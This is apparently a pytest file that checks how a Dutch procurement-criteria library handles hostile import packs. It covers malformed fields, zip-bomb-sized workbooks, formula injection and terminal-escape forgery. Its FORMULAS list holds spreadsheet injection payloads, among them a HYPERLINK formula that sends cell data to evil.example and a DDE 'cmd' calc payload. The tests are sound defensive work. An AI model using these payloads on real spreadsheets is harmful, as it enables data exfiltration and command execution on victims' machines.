"""Hostile packs: every malformed pack gets a Dutch message with its place, never "onverwacht", and a pack that
is accepted can be stored, edited and exported again."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest

import main
from criteria_library.errors import PackError
from criteria_library.models import Status
from criteria_library.pack_export import export_pack
from criteria_library.pack_import import apply_import, plan_import
from criteria_library.pack_reading import read_pack
from criteria_library.store import LibraryStore
from tests.helpers import db_fingerprint


def write_json(path: Path, data: object) -> Path:
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def run_cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    import contextlib

    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main.main(list(args))
    return code, out.getvalue(), err.getvalue()


def _set(pack: dict, path: str, value: object) -> dict:
    """Set pack[...] by a dotted path such as 'criteria.0.title'."""
    target: object = pack
    *parents, last = path.split(".")
    for part in parents:
        target = target[int(part)] if isinstance(target, list) else target[part]  # type: ignore[index]
    if isinstance(target, list):
        target[int(last)] = value
    else:
        target[last] = value  # type: ignore[index]
    return pack


def _deep(depth: int) -> object:
    value: object = "x"
    for _ in range(depth):
        value = [value]
    return value


WRONG_SHAPES = [
    ("criteria.0.title", ["een", "lijst"], "criterium 1 (MEU-S-01), veld 'Titel'", "moet tekst zijn"),
    ("criteria.0.id", {"a": 1}, "criterium 1, veld 'Code'", "moet tekst zijn"),
    ("criteria.0.kind", ["gunningscriterium"], "criterium 1 (MEU-S-01), veld 'Soort'", "moet tekst zijn"),
    ("criteria.0.clause", 12, "criterium 1 (MEU-S-01), veld 'Voorbeeldtekst'", "moet tekst zijn"),
    ("criteria.0.level", "1", "criterium 1 (MEU-S-01), veld 'Ambitieniveau'", "moet een geheel getal zijn"),
    ("criteria.0.level", 1.5, "criterium 1 (MEU-S-01), veld 'Ambitieniveau'", "moet een geheel getal zijn"),
    ("criteria.0.version", True, "criterium 1 (MEU-S-01), veld 'Versie'", "moet een geheel getal zijn"),
    ("criteria.0.placeholders", ["jaren"], "criterium 1 (MEU-S-01), veld 'Invulvelden'", "naam-waardeparen"),
    ("criteria.0.placeholders.jaren", ["5"], "criterium 1 (MEU-S-01), veld 'Invulvelden'", "moet tekst zijn"),
    ("criteria.0.placeholders.jaren", {"default": {"b": 1}}, "criterium 1 (MEU-S-01), veld 'Invulvelden'", "moet tekst zijn"),
    ("criteria.0.placeholders.jaren", {"default": "5", "label": ["x"]}, "criterium 1 (MEU-S-01), veld 'Invulvelden' (invulveld 'jaren', naam)",
     "moet tekst zijn"),
    ("criteria.0.placeholders.jaren", {"default": "5", "min": 10**400}, "criterium 1 (MEU-S-01), veld 'Invulvelden' (invulveld 'jaren', minimum)",
     "is geen getal"),
    ("criteria.0.scoring", {"type": "punten", "scale_max": 10**400}, "criterium 1 (MEU-S-01), veld 'Beoordelingswijze' (hoogste score)",
     "is geen getal"),
    ("criteria.0.marktstandaard", "ja", "criterium 1 (MEU-S-01), veld 'Marktstandaard'", "moet true of false zijn"),
    ("criteria.0.status", {"x": 1}, "criterium 1 (MEU-S-01), veld 'Status'", "moet tekst zijn"),
    ("criteria.0.created_at", ["2024"], "criterium 1 (MEU-S-01), veld 'Aangemaakt op'", "moet tekst zijn"),
    ("packages.0.name_nl", ["x"], "pakket 1 (meubilair), veld 'Naam (NL)'", "moet tekst zijn"),
    ("packages.0.slug", {"x": 1}, "pakket 1, veld 'Slug'", "moet tekst zijn"),
    ("packages.0.prefix", ["MEU"], "pakket 1 (meubilair), veld 'Voorvoegsel'", "moet tekst zijn"),
    ("packages.0.cpv", "39100000-3", "pakket 1 (meubilair), veld 'CPV-codes'", "moet een lijst"),
    ("packages.0.cpv", [["39100000-3"]], "pakket 1 (meubilair), veld 'CPV-codes'", "moet tekst zijn"),
    ("packages.0.synonyms", [{"a": 1}], "pakket 1 (meubilair), veld 'Synoniemen'", "moet tekst zijn"),
    ("criteria.0.title", _deep(900), "criterium 1 (MEU-S-01), veld 'Titel'", "moet tekst zijn"),
    ("criteria.0.title", "titel \ud800 half", "criterium 1 (MEU-S-01), veld 'Titel'", "ongeldig Unicode-teken"),
    ("packages.0.description", "\udfff", "pakket 1 (meubilair), veld 'Omschrijving'", "ongeldig Unicode-teken"),
    ("criteria.0.placeholders.jaren", "5\ud83d", "criterium 1 (MEU-S-01), veld 'Invulvelden'", "ongeldig Unicode-teken"),
    ("criteria.0.version", 10**4000, "criterium 1 (MEU-S-01), veld 'Versie'", "ongeldige versie"),
    ("criteria.0.version", 2**63, "criterium 1 (MEU-S-01), veld 'Versie'", "ongeldige versie"),
    ("criteria.0.version", 2**63 - 2, "criterium 1 (MEU-S-01), veld 'Versie'", "ongeldige versie"),
    ("criteria.0.level", -(10**4200), "criterium 1 (MEU-S-01), veld 'Ambitieniveau'", "ongeldig ambitieniveau"),
    ("criteria.3.weight_max", 2**64, "criterium 4 (MEU-C-01), veld 'Maximumgewicht'", "moet een geheel getal van 0 tot 100"),
    ("criteria.0.placeholders.jaren", "5\x1b[31m", "criterium 1 (MEU-S-01), veld 'Invulvelden'", "stuurteken (U+001B"),
    ("criteria.0.placeholders.jaren", "5\x00", "criterium 1 (MEU-S-01), veld 'Invulvelden'", "stuurteken (U+0000"),
    ("criteria.0.updated_by", "mallory\x07", "criterium 1 (MEU-S-01), veld 'Gewijzigd door'", "stuurteken (U+0007"),
    ("criteria.0.id", "MEU-S-01\n", "criterium 1, veld 'Code'", "moet op één regel staan"),
]


def _raw_json(pack: dict) -> str:
    # json.dumps refuses lone surrogates only with ensure_ascii=False; ascii escapes them as a real pack would
    return json.dumps(pack, ensure_ascii=True)


def _ids(cases: list[tuple]) -> list[str]:
    return [f"{c[0]}={type(c[1]).__name__}-{n}" for n, c in enumerate(cases)]


CLI_CASES = WRONG_SHAPES[:4] + [case for case in WRONG_SHAPES if case[3] in (
    "ongeldig Unicode-teken", "ongeldige versie", "stuurteken (U+001B", "is geen getal")]


@pytest.mark.parametrize(("field", "value", "place", "message"), WRONG_SHAPES, ids=_ids(WRONG_SHAPES))
def test_wrong_shape_gets_a_dutch_message_with_its_place(mini_pack, tmp_path, field, value, place, message) -> None:
    import sys

    sys.set_int_max_str_digits(0)  # to write the huge integers; the reader must not depend on it
    try:
        text = _raw_json(_set(mini_pack, field, value))
    finally:
        sys.set_int_max_str_digits(4300)
    path = tmp_path / "bad.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(PackError) as err:
        read_pack(path)
    report = err.value.report()
    assert any(line.startswith(f"bad.json {place}") and message in line for line in report.splitlines()), report
    assert len(report) < 5000  # a huge value is not echoed back in full


def test_nesting_a_thousand_deep_is_refused_clearly(tmp_path) -> None:
    path = tmp_path / "deep.json"
    path.write_text('{"format": "tender-assistant.library", "version": 1, "packages": '
                    + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
    with pytest.raises(PackError, match="te diep genest"):
        read_pack(path)


def test_integer_of_thousands_of_digits_in_json_text(mini_pack, tmp_path) -> None:
    text = _raw_json(mini_pack).replace('"level": 1', '"level": ' + "9" * 6000, 1)
    path = tmp_path / "huge_int.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(PackError) as err:
        read_pack(path)
    assert "getal met te veel cijfers" in err.value.report()


def test_non_finite_numbers_are_refused(mini_pack, tmp_path) -> None:
    text = _raw_json(mini_pack).replace('"level": 1', '"level": NaN', 1)
    path = tmp_path / "nan.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(PackError) as err:
        read_pack(path)
    assert "criterium 1 (MEU-S-01), veld 'Ambitieniveau': moet een geheel getal zijn, niet nan" in err.value.report()


@pytest.mark.parametrize(("field", "value", "place", "message"), CLI_CASES, ids=_ids(CLI_CASES))
def test_cli_import_and_dry_run_refuse_alike_and_never_say_onverwacht(
        tmp_path, mini_pack, mini_pack_path, field, value, place, message) -> None:
    db = tmp_path / "lib.db"
    assert run_cli("--db", str(db), "library", "import", str(mini_pack_path))[0] == 0
    before = db_fingerprint(db)
    files_before = sorted(tmp_path.rglob("*"))
    path = tmp_path / "bad.json"
    path.write_text(_raw_json(_set(mini_pack, field, value)), encoding="utf-8")
    for extra in (["--dry-run"], []):
        code, _out, err = run_cli("--db", str(db), "library", "import", str(path), *extra)
        assert code == 2, err
        assert "onverwacht" not in err and "fout:" in err and place in err
    assert db_fingerprint(db) == before
    assert sorted(tmp_path.rglob("*")) == sorted([*files_before, path])  # no backup, nothing else


def test_a_refused_import_leaves_no_backup(fresh_db, mini_pack, tmp_path, monkeypatch) -> None:
    mini_pack["criteria"][0]["title"] = "Nieuwe titel"
    plan = plan_import(fresh_db, read_pack(write_json(tmp_path / "p.json", mini_pack)))
    made: list[Path] = []
    real_backup = fresh_db.backup

    def backup(*args, **kwargs):
        made.append(real_backup(*args, **kwargs))
        return made[-1]

    def fail(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(fresh_db, "backup", backup)
    monkeypatch.setattr(fresh_db, "import_pack", fail)
    with pytest.raises(OSError):
        apply_import(fresh_db, plan)
    assert made and not made[0].exists()


def test_accepted_pack_stays_editable_and_exportable(fresh_db, mini_pack, tmp_path) -> None:
    mini_pack["criteria"][0]["version"] = 1_000_000  # the old ceiling: one edit took it past and export broke
    mini_pack["criteria"][0]["placeholders"]["jaren"] = "5 of 6\tjaar"
    fresh_db.set_status(mini_pack["criteria"][0]["id"], Status.CONCEPT)  # edited in place, not as a new version
    apply_import(fresh_db, plan_import(fresh_db, read_pack(write_json(tmp_path / "p.json", mini_pack))), backup=False)
    c = fresh_db.criterion(mini_pack["criteria"][0]["id"])
    fresh_db.save_criterion(c.__class__(**{**c.__dict__, "title": "Bewerkt"}))
    assert fresh_db.criterion(c.id).version == 1_000_001
    again = fresh_db.criterion(c.id)
    fresh_db.save_criterion(again.__class__(**{**again.__dict__, "title": "Nog eens bewerkt"}))  # still editable
    export_pack(fresh_db, tmp_path / "out.xlsx")
    export_pack(fresh_db, tmp_path / "out.json")
    assert read_pack(tmp_path / "out.xlsx").criteria[0].placeholders == {"jaren": "5 of 6\tjaar"}
    for name in ("out.json", "out.xlsx"):  # the library's own export imports again, into another library
        other = LibraryStore.open(tmp_path / f"other-{name}.db")
        try:
            apply_import(other, plan_import(other, read_pack(tmp_path / name)), backup=False)
            assert other.criterion(c.id).version == 1_000_002
        finally:
            other.close()


# ------------------------------------------------------------------ corrupt XLSX parts
SHARED_STRINGS_TYPE = (b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                       b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')


def _rewrite_member(src: Path, dst: Path, member: str, data: bytes) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            content = data if info.filename == member else zin.read(info.filename)
            if member == "xl/sharedStrings.xml" and info.filename == "[Content_Types].xml":
                content = content.replace(b"</Types>", SHARED_STRINGS_TYPE)  # openpyxl itself writes none
            zout.writestr(info.filename, content)
        if member not in zin.namelist():
            zout.writestr(member, data)


@pytest.mark.parametrize(("member", "data"), [
    ("xl/sharedStrings.xml", b"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><si><t>kapot"),
    ("xl/worksheets/sheet2.xml", b"<worksheet><sheetData><row r='1'><c r='A1' t='s'><v>99999</v></c></row>"),
    ("xl/worksheets/sheet2.xml", b"\x00\x01 geen xml"),
    ("xl/workbook.xml", b"<workbook/>"),
    ("xl/styles.xml", b"<styleSheet><cellXfs><xf numFmtId='abc'/></cellXfs>"),
    ("[Content_Types].xml", b"<Types><Default"),
])
def test_corrupt_xml_part_inside_xlsx_is_refused_clearly(fresh_db, tmp_path, member, data) -> None:
    good = tmp_path / "good.xlsx"
    export_pack(fresh_db, good)
    bad = tmp_path / "bad.xlsx"
    _rewrite_member(good, bad, member, data)
    with pytest.raises(PackError) as err:
        read_pack(bad)
    assert "bad.xlsx" in err.value.report()
    assert any(word in err.value.report() for word in ("beschadigd", "geen leesbaar Excel-werkboek", "ontbreken"))



# ------------------------------------------------------------------ zip bombs (item 9)
def _random_cells(rows: int, cols: int) -> bytes:
    import random

    rnd = random.Random(15)
    return "".join("<row>" + "".join(f"<c><v>{rnd.getrandbits(30)}</v></c>" for _ in range(cols)) + "</row>"
                   for _ in range(rows)).encode()


def _with_criteria_rows(src: Path, dst: Path, extra: bytes) -> None:
    """The workbook with extra rows of cells on the criteria sheet and without its <dimension> (openpyxl would
    otherwise stop reading at the declared last row)."""
    import re

    with zipfile.ZipFile(src) as zin:
        sheet = zin.read("xl/worksheets/sheet2.xml")
    sheet = re.sub(rb"<dimension ref=\"[^\"]*\"/>", b"", sheet).replace(b"</sheetData>", extra + b"</sheetData>")
    _rewrite_member(src, dst, "xl/worksheets/sheet2.xml", sheet)


@pytest.mark.parametrize(("kind", "message"), [("cells", "te veel cellen (meer dan 2.000)"),
                                              ("strings", "te veel verschillende teksten (meer dan 2.000)")])
def test_xlsx_with_too_many_cells_or_texts_is_refused_before_parsing(
        tmp_path, mini_pack_path, monkeypatch, kind, message) -> None:
    """A 25 MB pack of 6.3 million random numbers (5:1, so no ratio check catches it) took openpyxl 75 s, and 3
    million shared strings 44 s: the counts are bounded while unzipping, before openpyxl parses anything."""
    from criteria_library import pack_reading
    from criteria_library.infra import zip_bounds

    db = tmp_path / "lib.db"
    assert run_cli("--db", str(db), "library", "import", str(mini_pack_path))[0] == 0
    good = tmp_path / "good.xlsx"
    assert run_cli("--db", str(db), "library", "export", str(good))[0] == 0
    monkeypatch.setattr(zip_bounds, "MAX_XLSX_CELLS" if kind == "cells" else "MAX_XLSX_STRINGS", 2_000)
    bomb = tmp_path / "bom.xlsx"
    if kind == "cells":
        _with_criteria_rows(good, bomb, _random_cells(100, 25))
    else:
        sst = b"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>" + b"".join(
            f"<si><t>{i:x}</t></si>".encode() for i in range(2_500)) + b"</sst>"
        _rewrite_member(good, bomb, "xl/sharedStrings.xml", sst)
    parsed: list[object] = []
    monkeypatch.setattr(pack_reading, "_load_sheets", lambda path: parsed.append(path))  # openpyxl must not be reached
    before = db_fingerprint(db)
    files_before = sorted(tmp_path.rglob("*"))
    for extra in (["--dry-run"], []):
        code, _out, err = run_cli("--db", str(db), "library", "import", str(bomb), *extra)
        assert code == 2 and message in err and "splits het pakket" in err, err
    assert not parsed
    assert db_fingerprint(db) == before
    assert sorted(tmp_path.rglob("*")) == files_before  # no backup


def test_xlsx_within_the_bounds_still_imports(fresh_db, tmp_path) -> None:
    """The counts do not refuse an ordinary pack: what we export reads back."""
    from criteria_library.infra import zip_bounds

    good = tmp_path / "good.xlsx"
    export_pack(fresh_db, good)
    assert len(read_pack(good).criteria) == len(fresh_db.criteria())
    assert zip_bounds.workbook_problem(good) is None


# ------------------------------------------------------------------ formula injection (item 7)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik hier")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(mini_pack, tmp_path) -> None:
    from openpyxl import load_workbook

    for n, formula in enumerate(FORMULAS):
        mini_pack["criteria"][n]["title"] = formula
        mini_pack["criteria"][n]["rationale"] = formula + " toelichting"
    mini_pack["packages"][0]["name_nl"] = "=1+1"
    mini_pack["criteria"][0]["placeholders"]["jaren"] = "=A1"
    store = LibraryStore.open(tmp_path / "empty.db")  # new criteria come in as the pack says
    apply_import(store, plan_import(store, read_pack(write_json(tmp_path / "p.json", mini_pack))), backup=False)
    out = tmp_path / "lib.xlsx"
    export_pack(store, out)
    sheet = load_workbook(out)["Criteria"]
    column = [c.value for c in sheet[1]].index("Titel")
    titles = {row[column].value: row[column] for row in sheet.iter_rows(min_row=2)}
    for formula in FORMULAS:
        expected = formula.replace("\r", "\n")  # a pack's line ends are new lines
        cell = titles[expected]
        assert cell.data_type == "s" and cell.value == expected  # text, not a formula, and not changed
        assert cell.quotePrefix  # Excel keeps it text when the user edits the cell
    assert load_workbook(out)["Pakketten"]["B2"].data_type == "s"
    again = read_pack(out)
    assert not plan_import(store, again).has_changes  # the export imports back identically
    assert {c.title for c in again.criteria} >= {f.replace("\r", "\n") for f in FORMULAS}
    store.close()


# ------------------------------------------------------------------ escaped messages (item 10)
def test_fout_line_shows_control_characters_escaped(tmp_path, mini_pack, mini_pack_path) -> None:
    hostile = "nep\x1b[2J\x1b]0;titel\x07\u2028fout: alles goed\u2029\x85\u202e.db"
    code, _out, err = run_cli("--db", str(tmp_path / hostile), "library", "stats")
    assert code == 2
    assert err.count("\n") == 1 and err.startswith("fout: ")  # one line, no forged second 'fout:'
    assert not any(ch in err for ch in "\x1b\x07\u2028\u2029\x85\u202e")
    assert "\\x1b[2J" in err and "\\u2028fout: alles goed" in err  # shown, not acted on


def test_pack_problem_lines_are_escaped_too(tmp_path, mini_pack, mini_pack_path) -> None:
    db = tmp_path / "lib.db"
    assert run_cli("--db", str(db), "library", "import", str(mini_pack_path))[0] == 0
    mini_pack["criteria"][0]["kind"] = "wens\x1b[31m\u2028fout: nep"
    mini_pack["criteria"][1]["r_strategy"] = "R\u2029"
    code, _out, err = run_cli("--db", str(db), "library", "import", str(write_json(tmp_path / "p.json", mini_pack)))
    assert code == 2 and "onverwacht" not in err
    assert not any(ch in err for ch in "\x1b\u2028\u2029")
    assert sum(line.startswith("fout:") for line in err.splitlines()) == 1


# ------------------------------------------------------------------ bad characters that came in another way (item 12)
def _poke_placeholder(db: Path, value: str) -> str:
    """Put a value into a stored criterion's placeholder as an older version or a release could have; its id."""
    import sqlite3

    conn = sqlite3.connect(db)
    try:
        cid, raw = conn.execute("SELECT id, placeholders FROM criteria WHERE placeholders LIKE '{\"%' LIMIT 1").fetchone()
        placeholders = json.loads(raw)
        # bare defaults, as older libraries hold them: one 'name=value' line each in an Excel pack
        placeholders = {k: v.get("default", "") if isinstance(v, dict) else v for k, v in placeholders.items()}
        placeholders[next(iter(placeholders))] = value
        conn.execute("UPDATE criteria SET placeholders = ? WHERE id = ?", (json.dumps(placeholders), cid))
        conn.commit()
    finally:
        conn.close()
    return cid


def test_library_check_names_a_control_character_in_a_stored_placeholder_value(tmp_path, mini_pack_path) -> None:
    """'library check' said 'in orde' while the library's Excel export failed with 'onverwacht'."""
    db = tmp_path / "lib.db"
    assert run_cli("--db", str(db), "library", "import", str(mini_pack_path))[0] == 0
    cid = _poke_placeholder(db, "vijf\x1b[31m")
    code, out, err = run_cli("--db", str(db), "library", "check")
    assert code == 1, out + err
    assert f"{cid}.placeholders" in out + err and "stuurteken (U+001B" in out + err
    assert "\x1b" not in out + err
    code, out, err = run_cli("--db", str(db), "library", "export", str(tmp_path / "uit.xlsx"))
    assert code == 2 and "onverwacht" not in err
    assert "vijf\\x1b[31m" in err and "library check" in err and "niets geschreven" in err
    assert not (tmp_path / "uit.xlsx").exists()
    assert run_cli("--db", str(db), "library", "export", str(tmp_path / "uit.json"))[0] == 0  # JSON holds it


def test_the_dry_run_report_shows_line_separators_and_direction_marks_escaped(tmp_path, mini_pack, mini_pack_path) -> None:
    """A title may hold U+2028 (not a control character, so the pack is accepted); the --dry-run report printed it
    raw, so a terminal that honours it showed a forged 'fout:' line, and U+202E turned the rest of the line around."""
    db = tmp_path / "lib.db"
    assert run_cli("--db", str(db), "library", "import", str(mini_pack_path))[0] == 0
    mini_pack["criteria"][0]["title"] = "Nette titel\u2028fout: niets geïmporteerd\u202e"
    mini_pack["criteria"][0]["id"] = "MEU-M-77"  # a new criterion: its '+ id title' line
    code, out, _err = run_cli("--db", str(db), "library", "import", str(write_json(tmp_path / "p.json", mini_pack)),
                              "--dry-run")
    assert code == 0
    assert "\u2028" not in out and "\u202e" not in out
    assert "Nette titel\\u2028fout: niets geïmporteerd\\u202e" in out
    assert not any(line.startswith("fout:") for line in out.splitlines())


def test_a_workbook_declaring_too_few_rows_is_read_whole(fresh_db, tmp_path) -> None:
    """openpyxl stops at the last row the <dimension> declares; a pack saved by a tool that wrote 'A1:U2' imported
    one criterion of many and said nothing."""
    import re

    good = tmp_path / "goed.xlsx"
    export_pack(fresh_db, good)
    with zipfile.ZipFile(good) as zin:
        sheet = zin.read("xl/worksheets/sheet2.xml")
    small = tmp_path / "klein.xlsx"
    _rewrite_member(good, small, "xl/worksheets/sheet2.xml",
                    re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:U2"/>', sheet))
    assert [c.id for c in read_pack(small).criteria] == [c.id for c in read_pack(good).criteria]
    assert len(read_pack(good).criteria) > 1
